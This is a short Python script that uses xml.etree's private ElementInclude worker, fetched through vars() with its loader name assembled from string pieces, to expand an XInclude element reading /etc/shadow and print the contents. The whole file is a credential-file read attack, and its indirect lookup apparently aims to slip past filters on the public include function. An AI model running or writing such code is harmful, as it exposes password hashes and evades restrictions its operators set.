"""XInclude expansion through ElementInclude's private worker, looked up in vars()."""
from xml.etree import ElementInclude, ElementTree

DOC = (
    '<doc xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="/etc/shadow" parse="text"/>'
    "</doc>"
)

root = ElementTree.fromstring(DOC)
table = vars(ElementInclude)
expand, load = table["_include"], table["default_" + "loader"]
expand(root, load, None, 3, set())
print(root.text)
